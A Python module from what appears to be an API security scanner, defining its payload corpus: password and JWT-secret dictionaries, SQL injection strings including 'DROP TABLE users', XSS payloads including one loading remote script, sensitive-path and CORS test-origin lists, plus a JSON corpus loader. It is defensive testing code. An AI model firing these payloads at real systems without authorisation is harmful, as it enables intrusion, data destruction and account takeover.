"""Payload corpus: ordered attack strings, dictionaries and the header registry.

The corpus is plain data. Probes receive it by injection so a test (or a
``--corpus`` file) can swap any list without touching probe logic. Order
matters: attempt indices in a report map back to positions in these lists.
"""

import json
from dataclasses import dataclass, fields, replace
from pathlib import Path
from typing import Any, Dict, Tuple

from apichecker.core.errors import CorpusError
from apichecker.core.models import Severity


@dataclass(frozen=True)
class HeaderRule:
    """A security header the target is expected to send."""
    header: str
    name: str
    description: str
    severity: Severity
    remediation: str


COMMON_PASSWORDS = (
    "password", "123456", "12345678", "qwerty", "abc123",
    "monkey", "1234567", "letmein", "trustno1", "dragon",
    "baseball", "iloveyou", "master", "sunshine", "ashley",
    "bailey", "passw0rd", "shadow", "123123", "654321",
)

WEAK_PASSWORDS = ("123456", "password", "admin", "12345678", "qwerty")

SQL_PAYLOADS = (
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR '1'='1' /*",
    "admin' --",
    "admin' #",
    "admin'/*",
    "' or 1=1--",
    "' or 1=1#",
    "' or 1=1/*",
    "') or '1'='1--",
    "') or ('1'='1--",
    "1' ORDER BY 1--",
    "1' ORDER BY 2--",
    "1' ORDER BY 3--",
    "1' UNION SELECT NULL--",
    "1' UNION SELECT NULL,NULL--",
    "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055",
    "1; DROP TABLE users--",
    "1'; DROP TABLE users--",
    "' WAITFOR DELAY '00:00:05'--",
)

# Error strings only. Matched case-insensitively against the response body.
SQL_ERROR_PATTERNS = (
    r"SQL syntax",
    r"mysql_fetch",
    r"mysql_num_rows",
    r"PostgreSQL.*ERROR",
    r"Warning.*pg_",
    r"valid MySQL result",
    r"MySqlClient\.",
    r"ODBC SQL Server Driver",
    r"SQLServer JDBC Driver",
    r"Oracle error",
    r"ORA-\d{5}",
    r"quoted string not properly terminated",
    r"SQL command not properly ended",
    r"Unclosed quotation mark",
)

XSS_PAYLOADS = (
    '<script>alert("XSS")</script>',
    '<img src=x onerror=alert("XSS")>',
    '<svg/onload=alert("XSS")>',
    '<iframe src="javascript:alert(\'XSS\')">',
    '<body onload=alert("XSS")>',
    '<input onfocus=alert("XSS") autofocus>',
    '<select onfocus=alert("XSS") autofocus>',
    '<textarea onfocus=alert("XSS") autofocus>',
    '<marquee onstart=alert("XSS")>',
    '<div onmouseover=alert("XSS")>',
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    '<IMG SRC="javascript:alert(\'XSS\');">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC=`javascript:alert("XSS")`>',
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    'javascript:alert("XSS")',
)

SENSITIVE_PATHS = (
    "/api", "/api/v1", "/api/v2", "/admin", "/admin/login", "/dashboard",
    "/users", "/api/users", "/api/admin", "/debug", "/test", "/dev",
    "/swagger", "/api-docs", "/docs", "/graphql", "/health", "/status",
    "/metrics", "/config", "/env", "/.env", "/backup", "/db", "/database",
    "/phpmyadmin", "/adminer", "/console", "/api/keys", "/api/tokens",
    "/api/config",
)

JWT_WEAK_SECRETS = ("secret", "password", "123456", "admin", "test", "jwt-secret")

JWT_SENSITIVE_FIELDS = ("password", "secret", "apiKey", "api_key",
                        "privateKey", "private_key")

SECURITY_HEADERS = (
    HeaderRule("strict-transport-security", "Strict-Transport-Security (HSTS)",
               "Enforces HTTPS connections", Severity.HIGH,
               "Add: Strict-Transport-Security: max-age=31536000; includeSubDomains"),
    HeaderRule("content-security-policy", "Content-Security-Policy (CSP)",
               "Prevents XSS and other injection attacks", Severity.HIGH,
               "Add CSP header with appropriate directives for your application"),
    HeaderRule("x-content-type-options", "X-Content-Type-Options",
               "Prevents MIME type sniffing", Severity.MEDIUM,
               "Add: X-Content-Type-Options: nosniff"),
    HeaderRule("x-frame-options", "X-Frame-Options",
               "Prevents clickjacking attacks", Severity.MEDIUM,
               "Add: X-Frame-Options: DENY or SAMEORIGIN"),
    HeaderRule("x-xss-protection", "X-XSS-Protection",
               "Enables browser XSS filtering", Severity.LOW,
               "Add: X-XSS-Protection: 1; mode=block"),
    HeaderRule("referrer-policy", "Referrer-Policy",
               "Controls referrer information", Severity.LOW,
               "Add: Referrer-Policy: no-referrer or strict-origin-when-cross-origin"),
    HeaderRule("permissions-policy", "Permissions-Policy",
               "Controls browser features and APIs", Severity.MEDIUM,
               "Add Permissions-Policy header to control feature access"),
)

CORS_TEST_ORIGINS = ("http://evil.com", "https://malicious.example.com", "null", "*")


@dataclass(frozen=True)
class Corpus:
    version: str = "1"
    common_passwords: Tuple[str, ...] = COMMON_PASSWORDS
    weak_passwords: Tuple[str, ...] = WEAK_PASSWORDS
    sql_payloads: Tuple[str, ...] = SQL_PAYLOADS
    sql_error_patterns: Tuple[str, ...] = SQL_ERROR_PATTERNS
    sql_parameters: Tuple[str, ...] = ("id", "user", "username", "email", "search", "query")
    xss_payloads: Tuple[str, ...] = XSS_PAYLOADS
    xss_parameters: Tuple[str, ...] = ("name", "comment", "message",
                                       "description", "title", "content")
    sensitive_paths: Tuple[str, ...] = SENSITIVE_PATHS
    jwt_weak_secrets: Tuple[str, ...] = JWT_WEAK_SECRETS
    jwt_sensitive_fields: Tuple[str, ...] = JWT_SENSITIVE_FIELDS
    security_headers: Tuple[HeaderRule, ...] = SECURITY_HEADERS
    cors_test_origins: Tuple[str, ...] = CORS_TEST_ORIGINS
    enumeration_markers: Tuple[str, ...] = ("user not found", "invalid username")


DEFAULT_CORPUS = Corpus()


def _header_rule(raw: Any) -> HeaderRule:
    if not isinstance(raw, dict):
        raise CorpusError(f"header rule must be an object, got {type(raw).__name__}")
    try:
        return HeaderRule(
            header=str(raw["header"]).lower(),
            name=str(raw.get("name") or raw["header"]),
            description=str(raw.get("description", "")),
            severity=Severity(str(raw["severity"]).upper()),
            remediation=str(raw.get("remediation", "")),
        )
    except (KeyError, ValueError) as exc:
        raise CorpusError(f"invalid header rule {raw!r}: {exc}") from exc


def load_corpus(path: str, base: Corpus = DEFAULT_CORPUS) -> Corpus:
    """
    Load a corpus override from a JSON file.

    Each top-level key replaces the list of the same name in *base*;
    unknown keys are ignored so older files keep working.
    """
    corpus_path = Path(path)
    if not corpus_path.exists():
        raise CorpusError(f"Corpus file '{path}' does not exist")
    try:
        data = json.loads(corpus_path.read_text())
    except json.JSONDecodeError as exc:
        raise CorpusError(f"Corpus file '{path}' is not valid JSON: {exc}") from exc
    if not isinstance(data, dict):
        raise CorpusError("Corpus file must contain a JSON object")

    changes: Dict[str, Any] = {}
    for f in fields(Corpus):
        if f.name not in data:
            continue
        value = data[f.name]
        if f.name == "version":
            changes["version"] = str(value)
        elif not isinstance(value, list):
            raise CorpusError(f"'{f.name}' must be a list")
        elif f.name == "security_headers":
            changes[f.name] = tuple(_header_rule(v) for v in value)
        else:
            changes[f.name] = tuple(str(v) for v in value)
    return replace(base, **changes)
